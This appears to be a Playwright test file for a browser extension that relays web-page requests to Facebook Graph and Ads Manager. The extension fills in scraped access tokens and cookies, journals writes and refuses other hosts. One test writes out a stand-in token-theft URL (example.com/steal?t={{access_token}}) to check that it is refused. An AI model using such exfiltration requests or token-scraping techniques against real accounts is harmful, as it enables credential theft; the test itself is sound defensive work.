// The development build of the extension in real Chromium (headless, unpacked, docs/BROWSER-TESTS.md): the page
// mark, version and identity replies, graph calls through the bridge with placeholders filled from
// the (stub) sandbox session, the outcome journal, cookies, refusal of non-platform hosts, the probe
// page on the development id, and a thousand concurrent requests.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page, Worker } from 'playwright-core';
import { buildExtension, loadTemplate } from '../../extension/build';
import { EXTENSION_IDS as ids } from '../../protocol/extension-ids';
import { bridge, launchWithExtension, SESSION, startStubServer, stopExtensionWorker } from './harness';

const hasChromium = fs.existsSync(process.env.CHROMIUM_PATH ?? '/usr/bin/chromium');
const VERSION = loadTemplate().version;

describe.skipIf(!hasChromium)('extension (development flavour) in Chromium', { timeout: 30_000 }, () => {
  let stub: Awaited<ReturnType<typeof startStubServer>>;
  let browser: Awaited<ReturnType<typeof launchWithExtension>>;
  let worker: Worker;
  let page: Page;
  let tmp: string;

  beforeAll(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tessera-ext-build-'));
    const built = await buildExtension({ flavour: 'development', origins: [], out: path.join(tmp, 'development'), zip: false, quiet: true });
    stub = await startStubServer();
    browser = await launchWithExtension(built.outDir);
    worker = browser.worker;
    await worker.evaluate((base) => chrome.storage.local.set({ sandboxBase: base }), `${stub.origin}/__graph`);
    page = await browser.ctx.newPage();
    await page.goto(`${stub.origin}/dashboard/index`);
  }, 45_000);

  afterAll(async () => {
    await browser?.close();
    await stub?.close();
    if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('loads under the development id computed from its key', () => {
    expect(new URL(worker.url()).host).toBe(ids.development);
  });

  it('marks the page at document_start and answers the version message', async () => {
    expect(await page.getAttribute('html', 'data-tessera-extension')).toBe(VERSION);
    const reply = await bridge(page, { type: 'callGetVersionMethod' }, 'contentgetVersionReply');
    expect(reply).toMatchObject({ source: 'tessera-extension', type: 'contentgetVersionReply', version: VERSION });
  });

  it('answers the identity message with the sandbox session user', async () => {
    const reply = await bridge(page, { type: 'callRefreshTokenMethod', uid: '42' }, 'contentRefreshTokenReply');
    expect(reply?.data).toEqual({ id: SESSION.userId, name: SESSION.name });
  });

  it('runs a graph GET through the bridge, mapped to the sandbox, with the token filled in', async () => {
    const reply = await bridge(page, {
      type: 'tessera:request', requestId: 'get-1', responseType: 'json',
      payload: { url: 'https://graph.facebook.com/v19.0/act_1?fields=id,name&access_token={{access_token}}', options: { method: 'GET' } },
    }, 'tessera:response');
    // The token reached the sandbox, and came back scrubbed to its placeholder.
    expect(reply).toMatchObject({ ok: true, status: 200, body: { id: SESSION.userId, name: SESSION.name, token: '{{access_token}}' } });
    expect(stub.seen.some((s) => s.url.includes(`access_token=${SESSION.access_token}`))).toBe(true);
    expect((reply?.headers as Record<string, string>)['x-app-usage']).toBe('{"call_count":1}');
  });

  it('maps other platform hosts to S/__web/<host> and returns text', async () => {
    const reply = await bridge(page, {
      type: 'tessera:request', requestId: 'web-1', responseType: 'text',
      payload: { url: 'https://adsmanager.facebook.com/ads/manager/account_settings/account_roles/?u={{user_id}}', options: { method: 'GET' } },
    }, 'tessera:response');
    expect(reply).toMatchObject({ ok: true, status: 200, body: `web /__web/adsmanager.facebook.com/ads/manager/account_settings/account_roles/ ?u=${SESSION.userId}` });
  });

  it('fills a page token and journals writes (done, failed) with x-tessera-request-id', async () => {
    const post = await bridge(page, {
      type: 'tessera:request', requestId: 'w-page', responseType: 'json',
      payload: { url: 'https://graph.facebook.com/v19.0/act_777/users', options: { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'uid=1&access_token={{page_token:777}}' } },
    }, 'tessera:response');
    expect(post).toMatchObject({ ok: true, body: { token: '{{page_token:777}}' } });
    expect(stub.seen.find((s) => s.url === '/__graph/v19.0/act_777/users')?.body).toBe('uid=1&access_token=PAGETOKEN777');
    const ok = await bridge(page, { type: 'tessera:request', requestId: 'w-ok', responseType: 'json', payload: { url: 'https://graph.facebook.com/v19.0/act_1/users', options: { method: 'POST', body: 'uid=a' } } }, 'tessera:response');
    const bad = await bridge(page, { type: 'tessera:request', requestId: 'w-bad', responseType: 'json', payload: { url: 'https://graph.facebook.com/v19.0/act_2/users', options: { method: 'POST', body: 'uid=b' } } }, 'tessera:response');
    expect(ok).toMatchObject({ ok: true, status: 200 });
    expect(bad).toMatchObject({ ok: false, status: 400, body: { error: { code: 100 } } });
    expect(stub.seen.find((s) => s.url === '/__graph/v19.0/act_1/users')?.headers['x-tessera-request-id']).toBe('w-ok');
    expect(await bridge(page, { type: 'tessera:outcome', requestId: 'w-ok' }, 'tessera:outcomeReply')).toMatchObject({ state: 'done', status: 200 });
    expect(await bridge(page, { type: 'tessera:outcome', requestId: 'w-bad' }, 'tessera:outcomeReply')).toMatchObject({ state: 'failed', status: 400 });
    expect(await bridge(page, { type: 'tessera:outcome', requestId: 'never-sent' }, 'tessera:outcomeReply')).toMatchObject({ state: 'unknown' });
    // The journal lives in chrome.storage.session, so it outlives the worker.
    const stored = await worker.evaluate(() => chrome.storage.session.get('outcome:w-ok'));
    expect(stored['outcome:w-ok']).toMatchObject({ state: 'done', status: 200 });
  });

  it('refuses a non-platform host without fetching it', async () => {
    const before = stub.seen.length;
    const reply = await bridge(page, {
      type: 'tessera:request', requestId: 'evil-1', responseType: 'json',
      payload: { url: 'https://example.com/steal?t={{access_token}}', options: { method: 'GET' } },
    }, 'tessera:response');
    expect(reply).toMatchObject({ ok: false, status: 0, error: 'refused: example.com is not an allowed platform host' });
    const sandboxDirect = await bridge(page, {
      type: 'tessera:request', requestId: 'evil-2', responseType: 'json',
      payload: { url: `${stub.origin}/__graph/__sandbox/session`, options: { method: 'GET' } },
    }, 'tessera:response');
    expect(sandboxDirect).toMatchObject({ ok: false, status: 0, error: `refused: ${new URL(stub.origin).host} is not an allowed platform host` });
    expect(stub.seen.length).toBe(before);
    const cookies = await bridge(page, { type: 'tessera:cookie', requestId: 'ck-evil', url: 'https://example.com/' }, 'tessera:cookieReply');
    expect(cookies).toMatchObject({ cookies: [] });
  });

  it('serves cookies for platform URLs (the sandbox session user in this flavour)', async () => {
    const reply = await bridge(page, { type: 'tessera:cookie', requestId: 'ck-1', url: 'https://www.facebook.com/' }, 'tessera:cookieReply');
    expect(reply?.cookies).toEqual([{ name: 'c_user', value: SESSION.userId, domain: '.facebook.com', path: '/' }]);
  });

  it('lets the page probe probe.html on the development id only', async () => {
    const probe = (id: string) => page.evaluate((u) => fetch(u).then((r) => r.status, () => 'failed'), `chrome-extension://${id}/probe.html`);
    expect(await probe(ids.development)).toBe(200);
    expect(await probe(ids.production)).toBe('failed');
  });

  it('answers a thousand concurrent requests', async () => {
    const results = await page.evaluate((n) => new Promise<number>((resolve) => {
      const got = new Set<string>();
      const timer = setTimeout(() => resolve(got.size), 25_000);
      addEventListener('message', (e) => {
        const d = e.data as { source?: string; type?: string; requestId?: string; ok?: boolean; body?: { n?: number } };
        if (e.source !== window || d?.source !== 'tessera-extension' || d.type !== 'tessera:response' || !d.requestId?.startsWith('many-')) return;
        if (d.ok && d.body?.n === Number(d.requestId.slice(5))) got.add(d.requestId);
        if (got.size === n) { clearTimeout(timer); resolve(n); }
      });
      for (let i = 0; i < n; i++) {
        postMessage({ source: 'tessera-page', type: 'tessera:request', requestId: `many-${i}`, responseType: 'json', payload: { url: `https://graph.facebook.com/v19.0/act_${i}`, options: { method: 'GET' } } }, location.origin);
      }
    }), 1000);
    expect(results).toBe(1000);
  }, 30_000);

  it('shows its options page (localized) with the sandbox base and the sandbox identity', async () => {
    const options = await browser.ctx.newPage();
    try {
      await options.goto(`chrome-extension://${ids.development}/options.html`);
      await expect.poll(() => options.textContent('#identity-id')).toBe(SESSION.userId);
      expect(await options.textContent('#identity-name')).toBe(SESSION.name);
      expect(await options.inputValue('#sandbox-base')).toBe(`${stub.origin}/__graph`);
      expect(await options.textContent('h1')).toMatch(/^(Tessera extension settings|Tessera 扩展设置)$/);
      await options.fill('#sandbox-base', 'https://example.com/x');
      await options.click('button[type="submit"]');
      await expect.poll(() => options.getAttribute('#sandbox-status', 'class')).toBe('error');
      expect(await worker.evaluate(() => chrome.storage.local.get('sandboxBase'))).toEqual({ sandboxBase: `${stub.origin}/__graph` });
    } finally {
      await options.close();
    }
  });

  it('does not run on a page of another origin', async () => {
    const foreign = await startStubServer('127.0.0.2');
    const other = await browser.ctx.newPage();
    try {
      await other.goto(`${foreign.origin}/`);
      expect(await other.getAttribute('html', 'data-tessera-extension')).toBeNull();
      expect(await bridge(other, { type: 'callGetVersionMethod' }, 'contentgetVersionReply', 1_500)).toBeNull();
    } finally {
      await other.close();
      await foreign.close();
    }
  });

  it('survives the worker being stopped: journal kept, in-flight write answered, bridge reconnects', async () => {
    const slow = bridge(page, { type: 'tessera:request', requestId: 'w-slow', responseType: 'json', payload: { url: 'https://graph.facebook.com/v19.0/act_999', options: { method: 'POST', body: 'name=slow' } } }, 'tessera:response');
    await expect.poll(() => stub.seen.some((s) => s.url === '/__graph/v19.0/act_999')).toBe(true);
    await stopExtensionWorker(browser.ctx, page, ids.development);
    expect(await slow).toMatchObject({ ok: false, status: 0, error: expect.stringContaining('the extension stopped before replying') });
    // The write left but its reply was lost with the worker: the journal honestly says pending.
    expect(await bridge(page, { type: 'tessera:outcome', requestId: 'w-slow' }, 'tessera:outcomeReply')).toMatchObject({ state: 'pending' });
    expect(await bridge(page, { type: 'tessera:outcome', requestId: 'w-ok' }, 'tessera:outcomeReply')).toMatchObject({ state: 'done', status: 200 });
    const again = await bridge(page, { type: 'tessera:request', requestId: 'after-restart', responseType: 'json', payload: { url: 'https://graph.facebook.com/v19.0/act_5', options: { method: 'GET' } } }, 'tessera:response');
    expect(again).toMatchObject({ ok: true, body: { n: 5 } });
  });
});

describe.skipIf(!hasChromium)('extension (production flavour) in Chromium, platform routed to stubs', { timeout: 30_000 }, () => {
  let stub: Awaited<ReturnType<typeof startStubServer>>;
  let browser: Awaited<ReturnType<typeof launchWithExtension>>;
  let page: Page;
  let tmp: string;
  const platform: { method: string; url: string; cookie: string; requestIdHeader?: string; body: string | null }[] = [];

  beforeAll(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'tessera-ext-build-'));
    stub = await startStubServer();
    // A production build for this one origin, port included (https://app.example.com in real life).
    const built = await buildExtension({ flavour: 'production', origins: [stub.origin], out: path.join(tmp, 'production'), zip: false, quiet: true });
    browser = await launchWithExtension(built.outDir);
    // The worker's requests to the platform are answered here (Playwright routes extension-worker traffic too).
    await browser.ctx.route(/^https:\/\/[a-z]+\.facebook\.com\//, (route) => {
      const req = route.request();
      const u = new URL(req.url());
      platform.push({ method: req.method(), url: req.url(), cookie: req.headers().cookie ?? '', requestIdHeader: req.headers()['x-tessera-request-id'], body: req.postData() });
      if (u.hostname === 'adsmanager.facebook.com') {
        return route.fulfill({ status: 200, contentType: 'text/html', body: '<script>require("ServerJS",[["DTSGInitialData",[],{"token":"DTSG:abc"}],["LSD",[],{"token":"LSDxyz"}]]);window.__ctx={"accessToken":"EAABuserToken0123456789abcdef"};</script>' });
      }
      if (u.pathname === '/v19.0/me/accounts') return route.fulfill({ json: { data: [{ id: '888', access_token: 'EAAPage888' }] } });
      if (u.pathname === '/v19.0/me') return route.fulfill({ json: { id: '555', name: 'Real User', seen: u.searchParams.get('access_token') } });
      if (u.pathname === '/v19.0/act_1') return route.fulfill({ json: { id: 'act_1', seen: u.searchParams.get('access_token') }, headers: { 'x-echo': `lsd=LSDxyz ${u.searchParams.get('access_token')}` } });
      if (u.pathname === '/v19.0/act_888/users') return route.fulfill({ json: { success: true, body: req.postData() } });
            return route.fulfill({ status: 404, json: { error: { message: 'no route', code: 803 } } });
    });
    page = await browser.ctx.newPage();
    await page.goto(`${stub.origin}/dashboard/index`);
  }, 45_000);

  afterAll(async () => {
    await browser?.close();
    await stub?.close();
    if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
  });

  it('loads under the production id, marks the page and answers the version', async () => {
    expect(new URL(browser.worker.url()).host).toBe(ids.production);
    expect(await page.getAttribute('html', 'data-tessera-extension')).toBe(VERSION);
    expect(await bridge(page, { type: 'callGetVersionMethod' }, 'contentgetVersionReply')).toMatchObject({ version: VERSION });
    expect(await page.evaluate((u) => fetch(u).then((r) => r.status, () => 'failed'), `chrome-extension://${ids.production}/probe.html`)).toBe(200);
  });

  it('has no identity and fills no placeholders without a platform login', async () => {
    expect(await bridge(page, { type: 'callRefreshTokenMethod' }, 'contentRefreshTokenReply')).toMatchObject({ data: null });
    const reply = await bridge(page, { type: 'tessera:request', requestId: 'p-1', responseType: 'json', payload: { url: 'https://graph.facebook.com/v19.0/act_1?access_token={{access_token}}', options: { method: 'GET' } } }, 'tessera:response');
    expect(reply).toMatchObject({ ok: false, status: 0, error: expect.stringContaining('not logged in') });
    expect(platform).toEqual([]);
  });

  it('once logged in: identity, tokens scraped from Ads Manager, page tokens, cookies sent, writes journaled', async () => {
    await browser.ctx.addCookies([{ name: 'c_user', value: '555', domain: '.facebook.com', path: '/', secure: true, sameSite: 'None' }, { name: 'xs', value: 'secret-session', domain: '.facebook.com', path: '/', secure: true, sameSite: 'None' }]);
    expect(await bridge(page, { type: 'callRefreshTokenMethod' }, 'contentRefreshTokenReply')).toMatchObject({ data: { id: '555', name: 'Real User' } });
    const get = await bridge(page, { type: 'tessera:request', requestId: 'p-2', responseType: 'json', payload: { url: 'https://graph.facebook.com/v19.0/act_1?access_token={{access_token}}', options: { method: 'GET' } } }, 'tessera:response');
    // The platform got the token; the page gets its placeholder back (body and headers).
    expect(get).toMatchObject({ ok: true, status: 200, body: { seen: '{{access_token}}' }, headers: { 'x-echo': 'lsd={{lsd}} {{access_token}}' } });
    expect(platform.some((r) => r.url.includes('access_token=EAABuserToken0123456789abcdef'))).toBe(true);
    const post = await bridge(page, {
      type: 'tessera:request', requestId: 'p-3', responseType: 'json',
      payload: { url: 'https://graph.facebook.com/v19.0/act_888/users', options: { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'access_token={{page_token:888}}&name={{fb_dtsg}}&__user={{user_id}}' } },
    }, 'tessera:response');
    // fb_dtsg is a web-host form field only: in a graph body it goes out as literal text.
    expect(platform.find((r) => r.url.endsWith('/act_888/users'))?.body).toBe('access_token=EAAPage888&name=%7B%7Bfb_dtsg%7D%7D&__user=555');
    expect(post).toMatchObject({ ok: true, body: { body: 'access_token={{page_token:888}}&name=%7B%7Bfb_dtsg%7D%7D&__user=555' } });
    expect(await bridge(page, { type: 'tessera:outcome', requestId: 'p-3' }, 'tessera:outcomeReply')).toMatchObject({ state: 'done', status: 200 });
    // The Ads Manager page was read once (then cached), every platform call carried the user's cookies,
    // and the production flavour adds no x-tessera-request-id header.
    expect(platform.filter((r) => r.url.startsWith('https://adsmanager.facebook.com/')).length).toBe(1);
    expect(platform.every((r) => r.cookie.includes('c_user=555'))).toBe(true);
    expect(platform.every((r) => r.requestIdHeader === undefined)).toBe(true);
  });

  it('refuses non-platform hosts (the sandbox too) and reads platform cookies from the browser', async () => {
    const before = stub.seen.length;
    const refused = await bridge(page, { type: 'tessera:request', requestId: 'p-4', responseType: 'json', payload: { url: `${stub.origin}/__graph/v19.0/me`, options: { method: 'GET' } } }, 'tessera:response');
    expect(refused).toMatchObject({ ok: false, status: 0, error: expect.stringMatching(/^refused: /) });
    expect(stub.seen.length).toBe(before);
    const cookies = await bridge(page, { type: 'tessera:cookie', requestId: 'p-ck', url: 'https://www.facebook.com/' }, 'tessera:cookieReply');
    expect(cookies?.cookies).toEqual([{ name: 'c_user', value: '555', domain: '.facebook.com', path: '/' }]);
  });
});
